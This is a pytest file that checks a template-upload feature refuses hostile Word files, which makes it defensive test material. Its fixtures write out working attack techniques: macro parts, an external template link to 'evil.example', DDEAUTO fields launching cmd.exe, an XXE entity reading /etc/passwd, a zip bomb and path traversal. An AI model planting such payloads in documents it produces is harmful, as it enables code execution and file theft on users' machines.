# SPDX-License-Identifier: Apache-2.0
"""Word files that come in as templates: hostile ones are refused, odd ones never stop a page (S4-30, corpus U09-U11, E7)."""

from __future__ import annotations

import io

import pytest

from catalog.word_files import altered, upload, word
from mingcha.catalog.actions.templates import upload_template
from mingcha.catalog.models import Template
from mingcha.ledger import Invalid, System
from mingcha.organs.testing import Cast

pytestmark = pytest.mark.django_db
BY = System("test")

EXTERNAL = (
    b'<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
RELATIONS = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
BEGIN, END = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end"))


def field(*pieces: str, more: bytes = b"") -> bytes:
    """A document with a field whose code comes in these pieces."""
    code = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % piece.encode() for piece in pieces)
    swap = {"word/document.xml": (b"<w:t>x</w:t>", b"</w:r>" + BEGIN + code + more + END + b"<w:r>")}
    return altered(word("x"), swap=swap)


HOSTILE = {
    "docx_macro-part": lambda: altered(word("x"), put={"word/vbaProject.bin": b"\xd0\xcf"}),
    "docx_macro-type": lambda: altered(
        word("x"),
        swap={
            "[Content_Types].xml": (
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    ),
    "docx_link-template": lambda: altered(
        word("x"), swap={"word/_rels/document.xml.rels": (b"</Relationships>", EXTERNAL)}
    ),
    "docx_object-ole": lambda: altered(word("x"), put={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "docx_field-dde": lambda: altered(
        word("x"),
        swap={"word/document.xml": (b"<w:t>x</w:t>", b"<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>")},
    ),
    "docx_field-split": lambda: field("DD", "EAUTO c:\\\\cmd.exe"),
    "docx_field-quote": lambda: field('QUOTE "x"'),
    "docx_field-sum": lambda: field("= 1 + 1"),
    "docx_field-lower": lambda: field('includepicture "http://evil.example/a.png"'),
    "docx_field-text": lambda: field("PAGE", more=b"<w:r><w:t>DDE x</w:t></w:r>"),
    "docx_field-tag": lambda: field("PAGE {{ 当事人.名称 }}"),
    "docx_field-nested": lambda: field("PAGE ", more=BEGIN + b"<w:r><w:instrText>DATE</w:instrText></w:r>" + END),
    "docx_field-simple": lambda: altered(
        word("x"),
        swap={"word/document.xml": (b"<w:t>x</w:t>", b'</w:r><w:fldSimple w:instr=" LINK x "/><w:r>')},
    ),
    "docx_field-elsewhere": lambda: altered(
        word("x"), put={"other/part.dat": b'\xef\xbb\xbf <a xmlns:w="x"><w:fldSimple w:instr="DDE x"/></a>'}
    ),
    "docx_link-capitals": lambda: altered(word("x"), put={"other/_rels/a.xml.RELS": RELATIONS + EXTERNAL}),
    "docx_link-disguised": lambda: altered(word("x"), put={"word/a.bin": RELATIONS + EXTERNAL}),
    "docx_link-hyperlink": lambda: altered(
        word("x"),
        swap={
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                EXTERNAL.replace(b"attachedTemplate", b"hyperlink"),
            )
        },
    ),
    "docx_link-unsaid": lambda: altered(
        word("x"),
        swap={"word/_rels/document.xml.rels": (b"</Relationships>", EXTERNAL.replace(b' TargetMode="External"', b""))},
    ),
    "docx_link-merge": lambda: altered(word("x"), put={"word/more.XML": b'<a xmlns:w="x"><w:mailMerge/></a>'}),
    "docx_object-relation": lambda: altered(
        word("x"),
        swap={
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                EXTERNAL.replace(b"attachedTemplate", b"oleObject")
                .replace(b' TargetMode="External"', b"")
                .replace(b"http://evil.example/", b""),
            )
        },
    ),
    "archive_path-case": lambda: altered(word("x"), put={"word/Document.xml": b"<a/>"}),
    "xml_dtd": lambda: altered(
        word("x"), put={"word/evil.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'}
    ),
    "archive_bomb": lambda: altered(word("x"), put={"word/media/a.bin": b"\0" * (8 << 20)}),
    "archive_path": lambda: altered(word("x"), put={"../../x": b"x"}),
    "type_mismatch": lambda: b"\xd0\xcf\x11\xe0 old word",
    "file_damaged": lambda: altered(word("x"))[:-40] and altered_without_document(),
    "file_empty": lambda: b"",
}


def altered_without_document() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.txt", "x")
    return out.getvalue()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_and_leaves_no_template(cast: Cast, name: str) -> None:
    with pytest.raises(Invalid) as told:
        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(HOSTILE[name]()), by=BY)
    assert told.value.faults[0].code == name.split("-", maxsplit=1)[0]
    assert told.value.faults[0].field == "file"
    assert Template.objects.count() == 0


@pytest.mark.parametrize(
    "code", [" PAGE ", "page\\* MERGEFORMAT", 'DATE \\@ "yyyy"', 'TOC \\o "1-3" \\h', 'HYPERLINK \\l "_Toc1" \\h']
)
def test_fields_that_fetch_nothing_may_stand_in_a_template(cast: Cast, code: str) -> None:
    middle = len(code) // 2
    file = upload(field(code[:middle], code[middle:]))
    assert upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, file, by=BY).edition == 1


def test_another_kind_of_file_is_refused(cast: Cast) -> None:
    with pytest.raises(Invalid, match="不接受"):
        upload_template(cast.organ("enforcement"), {"key": "甲", "name": "甲"}, upload(word("x"), "a.docm"), by=BY)
